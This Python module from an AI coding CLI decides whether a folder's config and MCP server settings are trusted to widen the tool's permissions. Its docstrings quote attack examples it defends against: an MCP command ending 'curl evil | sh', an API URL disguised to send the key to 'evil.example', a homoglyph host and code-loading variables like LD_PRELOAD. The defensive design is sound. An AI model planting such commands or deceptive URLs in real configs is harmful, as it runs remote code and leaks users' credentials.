"""Folder trust: may this folder's config widen what kimi does?

A workspace's `.kimi/config.toml` and `.kimi/mcp.json` are data the workspace controls: a cloned repository
ships them, and a sandboxed command can write them. Settings there that would widen what kimi may do (where
the user's API key goes, programs started on the host, a sandbox turned off, approvals waved through) apply
only once the user trusts the folder. Settings that narrow (deny rules, hidden paths, a stricter policy)
always apply. Every setting is classified in kimi_cli.hostsafe.trust_rules. Trust is remembered in ~/.kimi/trusted.json
by folder and by a digest of exactly those settings, so a change to them asks again.

The folder's files are read once, into a snapshot (kimi_cli.hostsafe.project_settings.ProjectSettings): the decision is
made on the snapshot, and config, MCP servers, hooks and commands apply the same snapshot (FolderTrust.project),
never a second read that a writer could have changed in between. Front ends decide once per session with
`resolve()` (interactive: a question; headless: `--trust` or `kimi trust`; ACP: a permission request).
"""

from __future__ import annotations

import hashlib
import json
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from kimi_cli.hostsafe import trust_rules
from kimi_cli.hostsafe.fs import write_private
from kimi_cli.hostsafe.project_settings import ProjectSettings, read_project
from kimi_cli.util import jsonsafe
from kimi_cli.util.paths import kimi_home


@dataclass(frozen=True)
class Widening:
    """One thing a folder's config asks for that widens what kimi may do."""

    key: str  # "base_url", "sandbox.mode", "mcp:NAME"
    value: Any
    description: str


@dataclass
class FolderTrust:
    """A folder, what its config asks for, and whether those settings apply in this session. `project` is
    the snapshot the decision was made on: what applies is read from it, never from the files again."""

    folder: Path
    asks: list[Widening] = field(default_factory=list)
    digest: str = ""
    trusted: bool = False
    how: str = "nothing to trust"  # remembered | --trust | you agreed | not trusted | nothing to trust
    project: ProjectSettings = None  # type: ignore[assignment]  # set in __post_init__ when not given

    def __post_init__(self) -> None:
        if self.project is None:
            self.project = ProjectSettings(self.folder)

    @property
    def applies(self) -> bool:
        """Whether the folder's widening settings may be used (trusted, or it asks for nothing)."""
        return self.trusted or not self.asks

    def notice(self) -> str | None:
        """The one notice for an untrusted folder that asks for something, naming what was ignored."""
        if self.applies:
            return None
        names = ", ".join(w.key for w in self.asks)
        return (
            f"{self.folder} asks (in .kimi or .claude) for settings that widen what kimi may do ({names}); this "
            f"folder is not trusted, so they are ignored. Trust it with --trust or `kimi trust {self.folder}`."
        )

    def summary(self) -> list[str]:
        return [w.description for w in self.asks]


def _whole(value: Any) -> str:
    """A setting's value as the question shows it: whole. It was cut at 120 characters, so an MCP server's
    `sh -c 'echo formatting ... ; curl evil | sh'` was asked as "sh -c echo formatting ...". The questions
    (kimi_cli.frontends.questions) wrap it, count what a front end cannot show, and then refuse trusting."""
    return ", ".join(map(str, value)) if isinstance(value, list) else str(value)


def hosts_in(value: Any) -> str:
    """The hosts the URLs in a setting lead to, named apart from the (possibly cut) URL text: a long
    `https://api.moonshot.ai----...@evil.example/` must not show only its harmless-looking start."""
    from urllib.parse import urlsplit

    found: list[str] = []
    for text in _strings(value):
        if "://" not in text:
            continue
        try:
            parts = urlsplit(text.strip())
            host = (_ascii_host(parts.hostname) if parts.hostname else "(no host)") + (
                " (the URL also carries a user name)" if "@" in parts.netloc else ""
            )
        except ValueError:
            host = "(an invalid URL)"
        found.append(host)
    return ", ".join(dict.fromkeys(found)) or "(no URL)"


def _ascii_host(host: str) -> str:
    """A host as DNS sees it: `https://аpi.moonshot.ai` (a Cyrillic "а") read as Moonshot's own host in the
    question, and the key went to the folder's server. Non-ASCII names are shown in their ASCII form."""
    if host.isascii():
        return host
    try:
        plain = host.encode("idna").decode("ascii")
    except UnicodeError:
        plain = "".join(c if c.isascii() else f"\\u{ord(c):04x}" for c in host)
    return f"{plain} (a host name in non-ASCII letters, which can look like another's)"


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


def widening_in(config: dict[str, Any], mcp_servers: dict[str, Any]) -> list[Widening]:
    """What a project config (parsed TOML) and its MCP servers ask for that widens."""
    found = []
    for pattern, key, value in trust_rules.widening_settings(config):
        words = trust_rules.WHAT.get(pattern, key).format(value=_whole(value), host=hosts_in(value))
        found.append(Widening(key, value, words))
    for name, server in sorted(mcp_servers.items()):
        what = server.get("command") or server.get("url") if isinstance(server, dict) else server
        if isinstance(server, dict) and server.get("url"):
            what = f"{hosts_in(server.get('url'))}: {what}"
        if isinstance(server, dict) and server.get("args"):
            what = f"{what} {' '.join(map(str, server['args']))}"
        found.append(Widening(f"mcp:{name}", server, f"start the MCP server {name!r}: {_whole(what)}{_hidden(server)}"))
    return found


def _hidden(server: Any) -> str:
    """What a server's config does beyond its command line, which the question would otherwise not show:
    the environment variables of yours it reads (a `${VAR}` in a header goes to its URL), and the
    environment it sets (NODE_OPTIONS, LD_PRELOAD and PYTHONPATH load other code)."""
    import re

    if not isinstance(server, dict):
        return ""
    notes = []
    used = sorted(set(re.findall(r"\$\{([A-Za-z_][A-Za-z0-9_]*)\}", json.dumps(server))))
    if used:
        notes.append(f"given your environment variables {', '.join(used)}")
    for field_name, label in (("env", "setting"), ("headers", "sending headers")):
        table = server.get(field_name)
        if isinstance(table, dict) and table:
            notes.append(f"{label} {', '.join(map(str, sorted(table)))}")
    if server.get("cwd"):
        notes.append(f"in {server['cwd']}")
    return f" ({'; '.join(notes)})" if notes else ""


def file_widenings(project: ProjectSettings) -> list[Widening]:
    """What the folder's files, not its settings, ask for that widens what kimi does: the scripts its hooks
    run, its custom commands that run `!cmd` or pre-approve tools, its MCP servers' scripts and config files.
    Each extension that read them said so into the snapshot (ProjectSettings.file_asks); the values go into
    the digest, so a changed script or command asks again. Nothing here knows hooks, commands or MCP."""
    return [Widening(key, value, words) for key, value, words in project.file_asks]


def digest_of(asks: list[Widening]) -> str:
    canonical = json.dumps([[w.key, w.value] for w in asks], sort_keys=True, default=str)
    return hashlib.sha256(canonical.encode()).hexdigest()


def assess(folder: Path, project: ProjectSettings | None = None) -> FolderTrust:
    """What the folder asks for (its files read once now, unless a snapshot is given), and whether the user
    already trusted exactly that."""
    folder = folder.resolve()
    project = project if project is not None else read_project(folder)
    if project.users_own:
        return FolderTrust(folder, project=project)
    asks = widening_in(project.config, project.mcp_servers) + file_widenings(project)
    state = FolderTrust(folder, asks, digest_of(asks), project=project)
    if not asks:
        return state
    remembered = _load().get(str(folder))
    if isinstance(remembered, dict) and remembered.get("digest") == state.digest:
        state.trusted, state.how = True, "remembered"
    else:
        state.how = "not trusted"
    return state


# --- ~/.kimi/trusted.json -------------------------------------------------------------------------------


def store_path() -> Path:
    return kimi_home() / "trusted.json"


def _load() -> dict[str, Any]:
    try:
        data = jsonsafe.loads(store_path().read_text())
    except (OSError, ValueError):
        return {}
    folders = data.get("folders") if isinstance(data, dict) else None
    return folders if isinstance(folders, dict) else {}


def _save(folders: dict[str, Any]) -> None:
    write_private(store_path(), json.dumps({"version": 1, "folders": folders}, indent=2, sort_keys=True) + "\n")


def remember(state: FolderTrust) -> None:
    """Trust the folder's current widening settings (a later change to them asks again)."""
    folders = _load()
    folders[str(state.folder)] = {"digest": state.digest, "asks": state.summary(), "trusted_at": int(time.time())}
    _save(folders)


def revoke(folder: Path) -> bool:
    folders = _load()
    found = folders.pop(str(folder.resolve()), None) is not None
    if found:
        _save(folders)
    return found


def trusted_folders() -> dict[str, Any]:
    return _load()


# --- the decision for this session ----------------------------------------------------------------------

_DECIDED: dict[Path, FolderTrust] = {}
Ask = Callable[[FolderTrust], bool]


def resolve(folder: Path, grant: bool = False, ask: Ask | None = None) -> FolderTrust:
    """Decide once for this session: remembered trust, `--trust` (remembered), or the answer to `ask`.
    Without either, the folder's widening settings are ignored (see FolderTrust.notice)."""
    state = assess(folder)
    if state.asks and not state.trusted:
        if grant:
            state.trusted, state.how = True, "--trust"
            remember(state)
        elif ask is not None and ask(state):
            state.trusted, state.how = True, "you agreed"
            remember(state)
    _DECIDED[state.folder] = state
    return state


def decide(state: FolderTrust, trusted: bool, how: str) -> FolderTrust:
    """Record an answer obtained elsewhere (an ACP permission request); a yes is remembered."""
    if state.asks and trusted and not state.trusted:
        state.trusted, state.how = True, how
        remember(state)
    _DECIDED[state.folder] = state
    return state


def current(folder: Path) -> FolderTrust:
    """This session's decision for the folder, with the snapshot it was made on; else what is remembered
    for the folder as it is now (one fresh read)."""
    folder = folder.resolve()
    return _DECIDED.get(folder) or assess(folder)


def is_trusted(folder: Path) -> bool:
    """May this folder's config widen what kimi does? True when trusted or when it asks for nothing.

    The answer is about the snapshot the session's decision was made on (current()): what kimi applies is
    read from that snapshot too, so a file rewritten since (while the user read the question, or later in
    the session) is neither trusted nor used until the next start, where it asks again."""
    return current(folder).applies


def project_layer(state: FolderTrust, before: dict[str, Any]) -> dict[str, Any]:
    """The folder's parsed config as it applies: whole when trusted (or asking nothing), else without its
    widening settings and with its limits no looser than `before` (kimi_cli.hostsafe.trust_rules)."""
    return trust_rules.project_layer(state.project.config, before, state.applies)


def note_own_change(folder: Path, before: FolderTrust, key: str, value: Any) -> None:
    """The user changed one widening setting themselves (saved an allow rule, `kimi mcp add`): the folder
    stays trusted when its settings applied before and nothing else changed meanwhile. `value` None: removed."""
    if not before.applies:
        return
    after = assess(folder)
    expected = {w.key: w.value for w in before.asks}
    if value is None:
        expected.pop(key, None)
    else:
        expected[key] = value
    got = {w.key: w.value for w in after.asks}
    if json.dumps(got, sort_keys=True, default=str) == json.dumps(expected, sort_keys=True, default=str):
        remember(after)
        after.trusted, after.how = True, before.how if before.trusted else "your own change"
        _DECIDED[after.folder] = after


def note_own_allow_rule(folder: Path, before: FolderTrust, rule: str) -> None:
    """The user saved an allow rule into the folder's config (see note_own_change)."""
    allow = next((list(w.value) for w in before.asks if w.key == "approval.allow"), [])
    note_own_change(folder, before, "approval.allow", [*allow, rule])
